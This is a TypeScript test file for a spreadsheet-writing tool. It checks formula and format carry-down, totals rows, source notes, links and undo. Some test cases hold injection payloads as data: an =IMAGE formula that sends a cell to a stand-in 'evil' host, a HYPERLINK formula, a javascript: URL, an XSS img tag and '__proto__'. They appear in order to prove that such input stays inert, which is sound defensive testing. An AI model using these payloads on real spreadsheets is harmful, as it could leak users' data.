import { beforeEach, describe, expect, test } from "vitest";
import type { Cell } from "../../../backend/contract/cells.ts";
import type { WriteTable } from "../../rpc.ts";
import type { WriteOptions, WriteTarget } from "../../writes.ts";
import { invoices, WritingInVm } from "../../writing-in-vm.ts";

const append: WriteTarget = { kind: "append" };
let writing: WritingInVm;

beforeEach(async () => {
  writing = await WritingInVm.open();
});

const rect = (row: number, column: number, rows = 1, columns = 1) => ({ row, column, rows, columns });

function plan(target: WriteTarget, options: WriteOptions, table = invoices) {
  return writing.app.call("plan", { table, target, options });
}

function write(target: WriteTarget, options: WriteOptions = {}, table = invoices) {
  const { hash, target: placed } = plan(target, options, table);
  return writing.app.call("apply", { writeId: "w", table, target: placed, planHash: hash, options });
}

const undo = () => writing.app.call("undo", { writeId: "w" });

describe("carry-down", () => {
  const list = { rect: rect(1, 1), criteria: "VALUE_IN_LIST", values: ["x"], rejects: true };

  beforeEach(() => {
    writing.put(0, 0, [
      ["No", "Kind", "Amount", "Twice"],
      ["1", "x", { value: 5, format: "[$€]#,##0.00" }, { value: null, formula: "=C2*2" }],
    ]);
    writing.grid.setLooks(0, rect(1, 0), { background: "#ffff00", bold: true });
    writing.grid.setRules(0, [list]);
  });

  test("the last row's formulas, formats, look and validation go down with new rows, and undo takes them out", () => {
    const was = [writing.grid.contents(0), writing.grid.rules(0)];
    write(append);
    const lines = writing.grid.read(0, rect(2, 0, 2, 4));
    expect(lines.map((line) => line[3]?.formula)).toEqual(["=C3*2", "=C4*2"]);
    expect(lines.map((line) => line[2]?.format)).toEqual(["[$€]#,##0.00", "[$€]#,##0.00"]);
    expect(writing.grid.looks(0, rect(3, 0))[0]?.[0]).toMatchObject({ background: "#ffff00", bold: true });
    expect(writing.grid.rules(0)).toContainEqual({ ...list, rect: rect(3, 1) });
    expect(undo().conflictCount).toBe(0);
    expect([writing.grid.contents(0), writing.grid.rules(0)]).toEqual(was);
  });

  test("switched off, rows come plain", () => {
    write(append, { carryDown: false });
    expect(writing.grid.read(0, rect(2, 3))[0]?.[0]?.formula).toBe("");
    expect(writing.grid.looks(0, rect(2, 0))[0]?.[0]).toMatchObject({ background: "#ffffff", bold: false });
    expect(writing.grid.rules(0)).toEqual([list]);
  });

  test("a look does not go over one that stands there already, which an undo could not give back", () => {
    writing.grid.setLooks(0, rect(3, 2), { background: "#00ff00" });
    const was = writing.grid.contents(0);
    write(append);
    expect(writing.grid.looks(0, rect(3, 2))[0]?.[0]?.background).toBe("#00ff00");
    undo();
    expect(writing.grid.contents(0)).toEqual(was);
  });
});

describe("a row of totals", () => {
  beforeEach(() => {
    writing.put(0, 0, [
      ["No", "Amount"],
      ["1", 5],
      ["Summe", { value: 5, formula: "=SUM(B2:B2)" }],
    ]);
  });

  test("is asked about, and rows go below it unless the person says above", () => {
    const question = { code: "above-total", option: "aboveTotal", params: { row: 3 } };
    expect(plan(append, {}).questions).toEqual([{ ...question, answer: false }]);
    expect(plan(append, { aboveTotal: true }).questions).toEqual([{ ...question, answer: true }]);
    expect(plan(append, {}).a1).toBe("A4:B5");
  });

  test("above it, rows are inserted and the total moves down; undo brings it back", () => {
    const was = writing.grid.contents(0);
    write(append, { aboveTotal: true });
    expect(writing.values(rect(1, 0, 4)).flat()).toEqual(["1", "007", "008", "Summe"]);
    expect(undo().conflictCount).toBe(0);
    expect(writing.grid.contents(0)).toEqual(was);
  });

  test("an upsert finds a row of ours also where it is the last one, taken for a total", () => {
    writing.put(2, 0, [["007", 1]]);
    write({ kind: "upsert", keys: ["No"] }, { aboveTotal: true });
    expect(writing.values(rect(1, 0, 4, 2))).toEqual([
      ["1", 5],
      ["008", -5],
      ["007", 1200.5],
      [null, null],
    ]);
  });
});

describe("notes", () => {
  const flagged: Cell = { value: "x", raw: "a quote", flags: ["ambiguous-date"] };
  const table: WriteTable = {
    title: "",
    columns: [{ name: "A", type: "text" }],
    rows: [[flagged], [{ value: "plain" }], [{ ...flagged, confirmed: true }]],
  };
  const noted = () => writing.grid.notes(0, rect(0, 0, 4)).map(([note]) => note);
  const target: WriteTarget = { kind: "selection", header: true };

  test.each<[WriteOptions["notes"], string[]]>([
    ["off", ["", "", "", ""]],
    ["flags", ["", "Rowsmith: the date can be read in two ways", "", ""]],
    [
      "all",
      [
        "",
        "Rowsmith: as in the source; the date can be read in two ways\n“a quote”",
        "Rowsmith: as in the source\n“plain”",
        "Rowsmith: confirmed by a person\n“a quote”",
      ],
    ],
  ])("%s", (notes, wanted) => {
    write(target, notes ? { notes } : {}, table);
    expect(noted()).toEqual(wanted);
    undo();
    expect(noted()).toEqual(["", "", "", ""]);
  });

  test("a person's note stays, also through an undo", () => {
    writing.grid.setNotes(0, rect(1, 0), [["mine"]]);
    write(target, { notes: "all" }, table);
    expect(noted()[1]).toBe("mine");
    undo();
    expect(noted()[1]).toBe("mine");
  });

  test("a note of ours goes when its cell gets another content", () => {
    writing.put(0, 0, [
      ["K", "A"],
      ["1", null],
    ]);
    const keyed = (cell: Cell): WriteTable => ({
      title: "",
      columns: [
        { name: "K", type: "id" },
        { name: "A", type: "text" },
      ],
      rows: [[{ value: "1" }, cell]],
    });
    const upsert: WriteTarget = { kind: "upsert", keys: ["K"] };
    const options: WriteOptions = { looseKeys: true };
    write(upsert, options, keyed(flagged));
    expect(writing.grid.notes(0, rect(1, 1))).toEqual([["Rowsmith: the date can be read in two ways"]]);
    const planned = plan(upsert, options, keyed({ value: "sure" }));
    const args = { writeId: "w2", table: keyed({ value: "sure" }), target: planned.target, options };
    writing.app.call("apply", { ...args, planHash: planned.hash });
    expect(writing.grid.notes(0, rect(1, 1))).toEqual([[""]]);
  });

  test.each([
    '=IMAGE("https://evil/?d="&A1)',
    "＝1+1",
    "'=1+1",
    "\u0000=1",
    "<img src=x onerror=alert(1)>",
    "__proto__",
  ])("%j in a quote stays the note that it is, and no formula", (raw) => {
    write(target, { notes: "all" }, { ...table, rows: [[{ value: "x", raw }]] });
    expect(noted()[1]).toContain(`“${raw}”`);
    expect(Object.values(writing.grid.contents(0)).every(({ formula }) => formula === "")).toBe(true);
  });
});

test("a text with links or styles of its own stays, where a write goes around it", () => {
  writing.put(0, 0, [
    ["No", "Amount", "Note"],
    ...Array.from({ length: 30 }, (_, row) => [`k${row}`, row, "rich"]),
  ]);
  for (let row = 1; row <= 30; row++) writing.grid.makeRich(0, row, 1);
  writing.grid.makeRich(0, 5, 2);
  const rows = Array.from({ length: 30 }, (_, row) => row)
    .filter((row) => row % 3 === 0)
    .map((row): Cell[] => [{ value: `k${row}` }, { value: row + 100 }]);
  write(
    { kind: "upsert", keys: ["No"] },
    {},
    {
      title: "",
      columns: [
        { name: "No", type: "id" },
        { name: "Amount", type: "number" },
      ],
      rows,
    },
  );
  expect(writing.grid.isRich(0, 5, 2)).toBe(true);
  expect(writing.values(rect(1, 1, 4)).flat()).toEqual([100, 1, 2, 103]);
});

describe("links", () => {
  const table: WriteTable = {
    title: "",
    columns: [
      { name: "Site", type: "url" },
      { name: "Other", type: "url" },
    ],
    rows: [
      [{ value: "https://a.example/x" }, { value: "https://b.example" }],
      [{ value: "javascript:alert(1)" }, { value: "https://c.example" }],
      [{ value: null }, { value: null }],
      [{ value: '=HYPERLINK("https://evil","x")' }, { value: null }],
    ],
  };
  const linksOf = (column: number) => [1, 2, 3, 4].map((row) => writing.grid.link(0, row, column));
  const target: WriteTarget = { kind: "selection", header: true };

  test("none, unless the person allowed them", () => {
    write(target, {}, table);
    expect([...linksOf(0), ...linksOf(1)]).toEqual(Array.from({ length: 8 }, () => null));
  });

  test("in the columns that were allowed, of web addresses alone; undo takes them away", () => {
    const was = writing.grid.contents(0);
    write(target, { links: ["Site", "No such column"] }, table);
    expect(linksOf(0)).toEqual(["https://a.example/x", null, null, null]);
    expect(linksOf(1)).toEqual([null, null, null, null]);
    expect(writing.values(rect(1, 0, 4)).flat()).toEqual(table.rows.map(([cell]) => cell?.value));
    expect(Object.values(writing.grid.contents(0)).every(({ formula }) => formula === "")).toBe(true);
    undo();
    expect(writing.grid.contents(0)).toEqual(was);
  });

  test("a column of another type is none, whatever it is called", () => {
    const texts: WriteTable = {
      ...table,
      columns: table.columns.map((column) => ({ ...column, type: "text" })),
    };
    write(target, { links: ["Site", "Other"] }, texts);
    expect(linksOf(1)).toEqual([null, null, null, null]);
  });
});
